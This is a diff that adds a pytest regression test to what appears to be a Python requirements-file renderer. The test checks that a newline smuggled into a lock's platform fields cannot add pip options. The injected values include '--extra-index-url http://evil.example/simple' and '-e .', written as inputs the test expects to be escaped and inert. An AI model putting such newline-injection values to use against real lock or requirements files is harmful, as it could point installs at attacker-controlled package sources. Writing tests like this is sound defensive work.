@@ -49,6 +49,21 @@ def test_relative_find_links_and_the_real_file_name(restore_lock: LockFactory, t
 
 
 @pytest.mark.slow  # pip resolves the file
+def test_a_crafted_platform_cannot_add_a_line_to_the_file(restore_lock: LockFactory, tmp_path: Path) -> None:
+    """The header's "# python X on OS MACHINE" once wrote the platform raw: a lock whose
+    ``platform.os`` held a newline added any line pip reads (``--extra-index-url``, ``-e``)."""
+    lock = restore_lock(packages=[("six", "1.17.0")])
+    evil = "Linux\n--extra-index-url http://evil.example/simple"
+    lock = lock.model_copy(update={"platform": lock.platform.model_copy(update={"os": evil, "machine": "x\r\n-e ."})})
+    art = Artifact("six-1.17.0-py3-none-any.whl", "ab" * 32, path=str(tmp_path / "house" / "six.whl"))
+    text = render(lock, [Resolved(lock.packages[0], "wheelhouse", artifacts=(art,))], wheelhouse=tmp_path / "house")
+    assert [ln for ln in text.splitlines() if not ln.startswith(("#", " "))] == \
+        ["--no-index", f"--find-links {tmp_path / 'house'}", "six==1.17.0 \\"]
+    assert " on Linux\\n--extra-index-url http://evil.example/simple x\\r\\n-e .\n" in text  # shown, inert
+    # Twin: an ordinary platform reads as before.
+    assert "on Linux x86_64\n" in render(restore_lock(packages=[("six", "1.17.0")]), [], wheelhouse=tmp_path)
+
+
 def test_pip_reads_the_wheelhouse_from_the_files_directory(restore_lock: LockFactory, tmp_path: Path) -> None:
     house = tmp_path / "house"
     house.mkdir()
